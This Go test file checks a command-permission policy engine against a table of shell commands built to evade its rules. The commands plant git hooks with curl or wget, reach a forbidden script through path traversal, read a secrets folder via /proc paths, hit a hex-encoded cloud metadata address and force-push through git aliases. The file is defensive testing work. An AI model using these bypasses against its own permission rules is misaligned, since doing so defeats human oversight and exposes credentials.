package policy_test

import "testing"

// TestFurtherEffects has further ways to the same effects.
func TestFurtherEffects(t *testing.T) {
	const hooks, py, env = "deny write .git/hooks/*", "allow shell python3 scripts/*", "deny read secrets/*"
	rows := []struct{ want, permissions, command string }{
		// writers
		{"deny permission_deny", hooks, "cp -r hk/. .git/hooks"},
		{"deny permission_deny", hooks, "cp a b c .git/hooks"},
		{"deny permission_deny", hooks, "D=.git/hooks; cp pre-commit $D"},
		{"deny permission_deny", hooks, "cp *.sh .git/hooks/"},
		{"deny permission_deny", hooks, "sudo install -t .git/hooks pre-commit"},
		{"deny permission_deny", hooks, "find hk -name 'pre-*' -exec cp {} .git/hooks/ ';'"},
		{"deny permission_deny", hooks, "mv -t .git/hooks pre-commit"},
		{"deny permission_deny", hooks, "mv ./hk/pre-commit ./.git/./hooks/"},
		{"deny permission_deny", hooks, "cd .git && cp ../pre-commit hooks"},
		{"deny permission_deny", hooks, "git -C .git/hooks clone https://h/x"},
		{"deny permission_deny", hooks, "bsdtar -xf a.tar -C .git/hooks"},
		{"deny permission_deny", hooks, "tar --directory=.git/hooks -x -f a.tar"},
		{"deny permission_deny", hooks, "busybox cp pre-commit .git/hooks"},
		{"deny permission_deny", hooks, "ln -sf ../../x .git/hooks/pre-commit"},
		{"deny permission_deny", hooks, "cat x | tee .git/hooks/pre-commit"},
		{"deny permission_deny", hooks, "cat x > .git/hooks/pre-commit"},
		{"deny permission_deny", hooks, "mkdir -p .git/hooks/x"},
		{"deny permission_deny", hooks, "touch .git/hooks/pre-commit"},
		{"deny permission_deny", hooks, "xz -d .git/hooks/pre-commit.xz"},
		{"deny permission_deny", hooks, "unxz .git/hooks/pre-commit.xz"},
		{"deny permission_deny", hooks, "wget --directory-prefix=.git/hooks https://h/x"},
		{"deny permission_deny", hooks, "wget -r -P .git/hooks https://h/x"},
		{"deny permission_deny", hooks, "curl -o .git/hooks/pre-commit https://h/x"},
		{"deny permission_deny", hooks, "curl -Lo.git/hooks/pre-commit https://h/x"},
		{"deny permission_deny", hooks, "unzip -o a.zip -d .git/hooks"},
		{"deny permission_deny", hooks, "rsync -a --delete hk/ .git/hooks"},
		{"deny permission_deny", hooks, "patch -d .git/hooks < x.patch"},
		{"deny permission_deny", "deny write src/*", "cd src && git checkout -- ."},
		{"deny permission_deny", "deny write src/*", "git checkout main -- ./src/"},
		{"deny permission_deny", "deny write vendor/*", "git -C vendor stash pop"},
		{"ask rules", "deny write src/*", "git am x.mbox"},
		// where patterns hold
		{"ask confirm", py, "cd scripts/.. && cd .. && python3 scripts/x.py"},
		{"ask confirm", py, "cd -P /tmp && python3 scripts/x.py"},
		{"ask confirm", py, "cd; python3 scripts/x.py"},
		{"ask confirm", py, "(cd /tmp; python3 scripts/x.py)"},
		{"ask confirm", py, "bash -c 'cd /tmp && python3 scripts/x.py'"},
		{"ask confirm", py, "for d in /tmp /var; do cd $d && python3 scripts/x.py; done"},
		{"ask confirm", py, "cd /tmp || true; python3 scripts/x.py"},
		{"ask confirm", py, "python3 'scripts/../evil.py'"},
		{"ask confirm", py, "S=..; python3 scripts/$S/evil.py"},
		{"ask confirm", py, "python3 scripts/$(echo ..)/evil.py"},
		{"ask confirm", py, "/usr/bin/python3 scripts/../evil.py"},
		{"ask confirm", py, "python3 scripts/.//../evil.py"},
		{"ask confirm", py, "while read f; do python3 scripts/$f; done < list"},
		{"ask confirm", "allow shell bash -n scripts/*", "cd /tmp; bash -n scripts/x.sh; ./p"},
		{"ask confirm", "allow shell env FOO=1 node tools/*|allow shell node tools/*", "env FOO=1 node tools/../x.js"},
		{"ask confirm", "allow shell ./gradlew *", "cd /tmp && ./gradlew test"},
		{"ask confirm", "allow shell node tools/x.js", "cd /tmp && node tools/x.js"},
		{"allow rules", py, "timeout 60 python3 scripts/x.py --out /tmp/y"},
		{"allow rules", py, "for f in a b; do python3 scripts/$f.py; done"},
		{"allow rules", "allow shell ./gradlew *", "./gradlew test --tests 'a.b.*'"},
		{"allow rules", "allow shell git commit *", "git commit -m 'see docs/../x' -- src/a.go"},
		{"allow rules", "allow shell npm run *|allow shell cd *", "cd /home/dev/project/web && npm run build -- --base=../"},
		{"allow rules", "allow shell curl https://api.example/*", "curl 'https://api.example/v1/x?path=../y'"},
		// denies
		{"deny permission_deny", env, "cat ./secrets/a"},
		{"deny permission_deny", env, "cd secrets && cat a"},
		{"deny permission_deny", env, "head -1 sub/../secrets/a"},
		{"deny permission_deny", env, "grep x secrets//a"},
		{"deny permission_deny", env, "cat /proc/self/cwd/secrets/a"},
		{"deny permission_deny", env, "cat /proc/self/root/home/dev/project/secrets/a"},
		{"deny permission_deny", "deny shell curl *evil.example*", "curl http://EVIL.EXAMPLE"},
		{"deny permission_deny", "deny shell wget http://169.254.169.254/*", "wget http://0xa9.0xfe.0xa9.0xfe/latest"},
		{"deny permission_deny", "deny shell curl http://127.0.0.1*", "curl http://127.1/x"},
		{"deny permission_deny", "deny shell git push *", "git -c alias.p=push p"},
		{"deny permission_deny", "deny shell git push --force *", "git -c alias.p='push --force' p origin"},
		{"deny permission_deny", "deny shell git push *", "git config alias.p push; (cd sub && git p)"},
		{"deny permission_deny", "deny shell curl *", "hash -p /usr/bin/curl x; x https://h"},
	}
	for _, r := range rows {
		if v := decide(t, engine(t, r.permissions, nil), nil, call(r.command)); brief(v) != r.want {
			t.Errorf("%s: %q got %s (%s: %s), want %s", r.permissions, r.command, brief(v), v.Rule, v.Why, r.want)
		}
	}
}
